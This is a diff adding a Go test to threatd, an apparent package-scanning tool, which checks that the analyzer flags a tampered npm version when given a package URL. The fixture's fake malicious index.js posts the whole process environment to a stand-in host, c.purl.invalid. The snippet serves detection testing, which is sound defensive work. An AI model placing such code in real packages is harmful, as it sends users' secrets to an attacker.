@@ -7,12 +7,14 @@ import (
 	"crypto/sha256"
 	"encoding/hex"
 	"encoding/json"
+	"fmt"
 	"os"
 	"path/filepath"
 	"sort"
 	"strings"
 	"testing"
 
+	"github.com/threatd/threatd/cmd/internal/fakeregistry"
 	"github.com/threatd/threatd/cmd/internal/testbin"
 )
 
@@ -104,5 +106,47 @@ func TestAnalyzeCLI(t *testing.T) {
 	}
 	if r := other.cli("analyze"); r.code != 2 || !strings.Contains(r.stderr, "name one archive") {
 		t.Fatalf("no archive: exit %d\n%s", r.code, r.stderr)
+	}
+}
+
+// TestAnalyzePurl: threatd analyze PURL fetches the version and the
+// previous one (the highest lower version the registry lists) from the
+// firewall's configured upstream, here an npm registry and a Go module
+// proxy served by the test; other registries are refused with what to do.
+func TestAnalyzePurl(t *testing.T) {
+	t.Parallel()
+	testbin.NeedAnalyzer(t)
+	u := fakeregistry.New(t)
+	u.NPMPackage(t, "purl-lib", "1.2.0", "1.0.0", "1.1.0", "1.2.0", "2.0.0-beta.1")
+	// 1.2.0 turns malicious: its tarball is replaced.
+	evil := npmTgz(t, "purl-lib-1.2.0.tgz", map[string]string{"package.json": `{"name":"purl-lib","version":"1.2.0"}`,
+		"index.js": "const https = require('https');\nhttps.request({hostname: 'c.purl.invalid', method: 'POST'}).end(JSON.stringify(process.env));\n"})
+	body, _ := os.ReadFile(evil)
+	u.Put("/purl-lib/-/purl-lib-1.2.0.tgz", "application/octet-stream", 60, body)
+	u.GoModule(t, "example.com/purlmod", "v1.0.0", "v1.0.1")
+	in := newInstance(t, fmt.Sprintf("firewall:\n  npm:\n    upstream: %q\n  go:\n    upstream: %q\n", u.Srv.URL, u.Srv.URL))
+
+	r := in.cli("analyze", "--json", "pkg:npm/purl-lib@1.2.0")
+	var out struct{ Path, Previous, Verdict string }
+	if err := json.Unmarshal([]byte(r.stdout), &out); err != nil || r.code != 1 || out.Verdict != "suspicious" ||
+		out.Path != "pkg:npm/purl-lib@1.2.0" || out.Previous != "pkg:npm/purl-lib@1.1.0" || !strings.Contains(r.stderr, "compared with purl-lib 1.1.0") {
+		t.Fatalf("npm purl: exit %d %+v %v\n%s%s", r.code, out, err, r.stdout, r.stderr)
+	}
+	if r := in.cli("analyze", "pkg:npm/purl-lib@1.1.0"); r.code != 0 || !strings.Contains(r.stdout, "pkg:npm/purl-lib@1.1.0: CLEAN") {
+		t.Fatalf("a clean npm version: exit %d\n%s%s", r.code, r.stdout, r.stderr)
+	}
+	if r := in.cli("analyze", "pkg:golang/example.com/purlmod@v1.0.1"); r.code != 0 || !strings.Contains(r.stderr, "compared with example.com/purlmod v1.0.0") {
+		t.Fatalf("a Go module: exit %d\n%s%s", r.code, r.stdout, r.stderr)
+	}
+	for purl, want := range map[string]string{
+		"pkg:npm/purl-lib@9.9.9":    "npm purl-lib has no version 9.9.9",
+		"pkg:npm/purl-lib":          "names no version",
+		"pkg:npm/no-such-lib@1.0.0": "404",
+		"pkg:pypi/requests@2.32.3":  "download the archive and name its path",
+		"pkg:unknown/x@1":           "not supported",
+	} {
+		if r := in.cli("analyze", purl); r.code != 2 || !strings.Contains(r.stderr, want) {
+			t.Errorf("%s: exit %d, want 2 and %q\n%s", purl, r.code, want, r.stderr)
+		}
 	}
 }
